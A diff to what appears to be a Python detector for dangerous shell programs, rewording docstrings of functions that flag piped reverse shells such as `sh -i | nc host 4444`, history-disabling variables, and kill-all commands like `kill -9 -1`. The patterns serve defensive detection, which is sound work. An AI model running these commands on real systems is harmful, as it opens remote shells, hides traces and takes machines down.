@@ -1,4 +1,4 @@
-"""Finds back doors, removed traces and outages that tool rules and file paths don't cover."""
+"""Find back doors, removed traces and outages that the rules for tools and paths don't cover."""
 
 from __future__ import annotations
 
@@ -84,7 +84,9 @@ def _hands_over_shell(command: Command) -> Iterator[Effect]:
 
 
 def find_piped_shells(program: Program) -> Iterator[Effect]:
-    """Judge `sh -i | nc host 4444` in either order, and variables that disable the history."""
+    """Yield effects for pipelines such as `sh -i | nc host 4444`, in either order, and for variables that disable the
+    history.
+    """
     shells: set[tuple[Unit, int]] = set()
     for command in program.commands:
         is_shell = command.name in SHELLS and not command.is_opened
@@ -105,7 +107,9 @@ def find_piped_shells(program: Program) -> Iterator[Effect]:
 
 
 def _ends_everything(texts: list[str]) -> bool:
-    """Judge `kill -9 -1` and `kill 1`. The first word is the signal if it begins with a dash."""
+    """Return whether kill ends all processes, as in `kill -9 -1` and `kill 1`. A first word that begins with a dash is
+    the signal.
+    """
     signals = {text.lstrip("-").upper().removeprefix("SIG") for text in texts[:-1]}
     harmless = signals & {"0", "1", "HUP", "USR1", "USR2", "WINCH", "L"}
     return "-1" in texts[1:] or (texts[-1:] == ["1"] and not harmless)
